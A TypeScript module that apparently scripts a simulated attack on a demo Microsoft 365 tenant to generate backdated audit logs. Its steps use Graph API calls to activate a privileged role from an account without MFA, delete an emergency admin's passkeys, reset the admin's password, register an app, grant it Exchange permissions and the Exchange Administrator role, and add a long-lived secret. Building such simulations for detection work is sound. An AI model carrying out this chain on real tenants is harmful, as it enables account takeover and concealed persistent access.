import { randomInt, randomUUID } from 'node:crypto';
import { daysBefore, instant, type Instant } from '../../core/instant.js';
import { PRIVILEGED_ROLES } from '../../m365/directory-roles.js';
import { toDirectoryAudit } from '../tenant-data/audit/directory-audit-formatter.js';
import { toEntraRecord } from '../tenant-data/audit/entra-record-formatter.js';
import { buildPimActivation } from '../tenant-data/audit/pim-activation-events.js';
import { AZURE_PORTAL_APP_ID, toSignInRecord } from '../tenant-data/audit/sign-in-record-formatter.js';
import { createGeneratorContext, type GeneratorContext } from '../tenant-data/generator-context.js';
import { defaultTenantDataOptions } from '../tenant-data/default-generator-options.js';
import { API_RESOURCES } from '../tenant-data/microsoft-api-permissions.js';
import type { AttackStep } from './attack-step.js';
import { type DemoTenantClient, type JsonBody, readTextProperty } from './demo-tenant-client.js';
import { LIVE_ATTACK } from './live-attack-profile.js';

/**
 * The steps of one night, two months ago: sign in, register the app, arm it. Every write carries that past time and
 * reaches the logs now.
 */
export function buildArmingSteps(now: Date): readonly AttackStep[] {
  const context = createGeneratorContext(defaultTenantDataOptions(now));
  const { admin, appName, foothold, footholdRole, ip, permission, roleId, secretName } = LIVE_ATTACK;
  const begin = daysBefore(instant(now), LIVE_ATTACK.armedDaysAgo).slice(0, 11);
  /** Starts at a different second on each run: records of the same moment would share an id. */
  const beginMs = Date.parse(`${begin}02:05:00Z`) + randomInt(60) * 1000;
  const at = (minutes: number) => instant(beginMs + minutes * 60_000);
  const asAdmin = (client: DemoTenantClient, minutes: number) => client.asPerson(admin, 'graph', ip, at(minutes));
  return [
    {
      words: `${foothold}, who has no second factor, signs in from ${ip} and activates ${footholdRole}.`,
      play: async (client) => {
        const user = await person(client, foothold, at(0));
        const events = buildPimActivation(context, {
          at: at(2),
          user,
          roleId: templateId(footholdRole),
          ip,
          correlation: randomUUID(),
        });
        await client.tell(
          [signIn(context, user, at(0)), ...events.map((event) => toEntraRecord(context, event))],
          events.map((event) => toDirectoryAudit(context, event)),
        );
      },
    },
    {
      words: `With it, the second factor of ${admin} is deleted and the password reset: the emergency account is a Global Administrator.`,
      play: async (client) => {
        const token = await client.asPerson(foothold, 'graph', ip, at(4));
        const { value } = await client.graph(token, 'GET', `/users/${admin}/authentication/methods`);
        for (const id of passkeyIds(value))
          await client.graph(token, 'DELETE', `/users/${admin}/authentication/fido2Methods/${id}`);
        await client.graph(token, 'PATCH', `/users/${admin}`, { passwordProfile: { password: randomUUID() } });
      },
    },
    {
      words: `${admin} signs in from ${ip}.`,
      play: async (client) => {
        await client.tell([signIn(context, await person(client, admin, at(9)), at(9))], []);
      },
    },
    {
      words: `It registers the app ${appName}.`,
      play: async (client, spoils) => {
        const token = await asAdmin(client, 12);
        const application = await client.graph(token, 'POST', '/applications', { displayName: appName });
        spoils.applicationId = readTextProperty(application, 'id');
        spoils.appId = readTextProperty(application, 'appId');
        const { appId } = spoils;
        spoils.servicePrincipalId = readTextProperty(
          await client.graph(token, 'POST', '/servicePrincipals', { appId }),
          'id',
        );
      },
    },
    {
      words: `The app gets ${permission}.`,
      play: async (client, { servicePrincipalId }) => {
        const token = await asAdmin(client, 15);
        const { appId, appRoles } = API_RESOURCES.exchange;
        const resource = await client.graph(token, 'GET', `/servicePrincipals(appId='${appId}')`);
        const appRoleId = appRoles.find(({ value }) => value === permission)?.id ?? '';
        await client.graph(token, 'POST', `/servicePrincipals/${servicePrincipalId}/appRoleAssignments`, {
          principalId: servicePrincipalId,
          resourceId: readTextProperty(resource, 'id'),
          appRoleId,
        });
      },
    },
    {
      words: 'Its service principal becomes Exchange Administrator.',
      play: async (client, { servicePrincipalId }) => {
        await client.graph(await asAdmin(client, 18), 'POST', '/roleManagement/directory/roleAssignments', {
          principalId: servicePrincipalId,
          roleDefinitionId: roleId,
          directoryScopeId: '/',
        });
      },
    },
    {
      words: 'A secret is added to it, for two years.',
      play: async (client, spoils) => {
        const path = `/applications/${spoils.applicationId}/addPassword`;
        const body = { passwordCredential: { displayName: secretName } };
        spoils.secret = readTextProperty(
          await client.graph(await asAdmin(client, 21), 'POST', path, body),
          'secretText',
        );
      },
    },
  ];
}

interface Person {
  readonly id: string;
  readonly displayName: string;
  readonly userPrincipalName: string;
}

async function person(client: DemoTenantClient, userPrincipalName: string, at: Instant): Promise<Person> {
  const token = await client.asPerson(userPrincipalName, 'graph', LIVE_ATTACK.ip, at);
  const user = await client.graph(token, 'GET', `/users/${userPrincipalName}?$select=id,displayName`);
  return { id: readTextProperty(user, 'id'), displayName: readTextProperty(user, 'displayName'), userPrincipalName };
}

function signIn(context: GeneratorContext, user: Person, at: Instant): JsonBody {
  return toSignInRecord(context, { at, user, ip: LIVE_ATTACK.ip, applicationId: AZURE_PORTAL_APP_ID });
}

function passkeyIds(methods: unknown): readonly string[] {
  if (!Array.isArray(methods)) return [];
  return methods
    .filter((method: JsonBody) => method['@odata.type'] === '#microsoft.graph.fido2AuthenticationMethod')
    .map((method: JsonBody) => readTextProperty(method, 'id'));
}

function templateId(role: string): string {
  return PRIVILEGED_ROLES.find(({ name }) => name === role)?.templateId ?? '';
}
